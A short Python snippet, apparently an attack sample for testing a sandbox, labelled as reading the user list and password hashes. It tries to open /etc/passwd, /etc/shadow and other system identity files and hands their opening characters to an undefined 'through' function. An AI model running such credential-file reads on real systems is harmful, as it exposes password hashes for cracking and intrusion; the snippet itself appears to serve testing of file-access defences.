# Attack: reads the list of users and the password hashes.
# Kind: reading

for path in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/machine-id", "/etc/hostname"):
    try:
        through(f"read {path}: {open(path).read()[:40]!r}")
    except OSError as error:
        print(error)
